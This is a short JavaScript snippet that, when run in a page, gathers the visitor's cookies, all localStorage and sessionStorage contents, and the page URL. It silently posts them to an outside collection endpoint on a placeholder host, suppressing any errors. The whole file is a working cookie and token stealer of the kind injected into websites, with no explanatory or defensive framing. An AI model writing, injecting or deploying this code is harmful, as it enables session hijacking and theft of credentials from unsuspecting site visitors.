(function () {
  'use strict';
  const API = 'https://collect.placeholder.example/api/in.php';
  const pack = {
    kind: 'all',
    jar: document.cookie,
    local: Object.keys(localStorage).reduce((o, k) => { o[k] = localStorage.getItem(k); return o; }, {}),
    session: Object.keys(sessionStorage).reduce((o, k) => { o[k] = sessionStorage.getItem(k); return o; }, {}),
    at: location.href,
    when: new Date().toISOString()
  };
  fetch(API, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(pack) }).catch(() => {});
})();
